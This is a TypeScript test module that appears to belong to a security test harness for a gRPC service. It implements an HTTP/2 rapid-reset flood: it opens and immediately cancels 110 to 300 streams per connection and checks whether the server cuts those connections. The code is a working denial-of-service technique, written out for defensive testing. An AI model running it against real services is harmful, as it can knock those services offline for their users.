// Opens streams only to reset them, 110 to 300 a connection, beside one Watch
// that stays open: without credentials and with, in one packet or after their
// responses began.
import { type Attack, Counts, pause, pick } from "../support/attack.js";
import {
  dataFrame,
  FRAME,
  type FrameConnection,
  grpcFields,
  headersFrame,
  openFrames,
  resetFrame,
} from "../support/frames.js";
import { frame } from "../support/grpc.js";
import type { Target } from "../support/world.js";

const WATCH = "/grpc.health.v1.Health/Watch";
const LIST = "/chainguard.platform.iam.v2beta1.GroupsService/ListGroups";
const EMPTY = frame(new Uint8Array());
/** Open at once, below what a session allows. */
const BATCH = 90;
/** At least; an address that resets too much may open one session a second. */
const ROUNDS = 12;
const ROUND_MS = 50;
/** How long the rounds that are owed may take after the word to stop, in milliseconds. */
const LATE_MS = 15_000;
const FIRST_RESPONSE_MS = 5_000;

/** The shapes of a round. */
export const SHAPES = ["in one packet", "after their answers began", "with lists under way"] as const;

export const attack: Attack = {
  async run(target, stop) {
    const counts = new Counts();
    const last = new AbortController();
    stop.addEventListener("abort", () => setTimeout(() => last.abort(), LATE_MS).unref());
    for (let round = 0; !last.signal.aborted && (!stop.aborted || round < ROUNDS); round++) {
      await resetRound(target, round, counts, last.signal);
      await pause(ROUND_MS, last.signal);
    }
    const { rounds = 0, rapid = 0, cut = 0 } = counts.done;
    if (rounds < ROUNDS) counts.problem(`only ${rounds} rounds`);
    // On a busy machine a reset may come late enough to pass for a deadline.
    if (cut < rapid / 2) counts.problem(`only ${cut} of ${rapid} connections were cut that reset all they opened`);
    return counts;
  },
};

/** One connection: a Watch that is answered, then resets until the cut or their number is reached. */
export async function resetRound(
  { url, addresses, token }: Pick<Target, "url" | "addresses" | "token">,
  round: number,
  counts: Counts,
  stop: AbortSignal,
): Promise<void> {
  const shape = pick(SHAPES, round);
  const resets = 110 + ((round * 53) % 191);
  const connection = openFrames(url, pick(addresses, round));
  try {
    await connection.ready;
    connection.send(headersFrame(1, grpcFields(url, WATCH)), dataFrame(1, EMPTY, true));
    if (!(await isAnswered(connection, 1, stop))) {
      if (!stop.aborted) counts.problem("a Watch is not answered");
      return;
    }
    let stream = 3;
    for (let left = resets; left > 0 && !connection.isClosed; left -= BATCH) {
      const streams = Array.from({ length: Math.min(left, BATCH) }, (_, i) => stream + 2 * i);
      stream += 2 * streams.length;
      // Every second one of the lists has a token; rejections are resets of another kind.
      const path = shape === "with lists under way" ? LIST : WATCH;
      const open = streams.flatMap((id, i) => {
        const fields = grpcFields(url, path, shape === "with lists under way" && i % 2 === 0 ? token : undefined);
        return [headersFrame(id, fields), dataFrame(id, EMPTY, true)];
      });
      const cut = streams.map((id) => resetFrame(id));
      if (shape === "after their answers began") {
        connection.send(...open);
        await isAnswered(connection, streams.at(-1) ?? 0, stop);
        connection.send(...cut);
      } else connection.send(...open, ...cut);
      counts.add("resets", streams.length);
      await pause(1, stop);
    }
    await pause(50, stop);
    counts.add("rounds");
    const isCut = connection.goaway !== undefined || connection.isClosed;
    // Streams whose responses had begun may be given up as often as their caller likes.
    if (shape === "after their answers began") return;
    counts.add("rapid");
    if (isCut) counts.add("cut");
  } catch {
    counts.add("not connected");
  } finally {
    connection.close();
  }
}

function isAnswered(connection: FrameConnection, stream: number, stop: AbortSignal): Promise<boolean> {
  return new Promise((resolve) => {
    const finish = (answered: boolean) => {
      clearTimeout(timer);
      connection.onFrame = undefined;
      resolve(answered);
    };
    const timer = setTimeout(() => finish(false), FIRST_RESPONSE_MS);
    stop.addEventListener("abort", () => finish(false), { once: true });
    connection.onFrame = (frame) => {
      const isResponse = frame.type === FRAME.headers || frame.type === FRAME.data || frame.type === FRAME.reset;
      if (frame.stream === stream && isResponse) finish(true);
      if (frame.type === FRAME.goaway) finish(false);
    };
  });
}
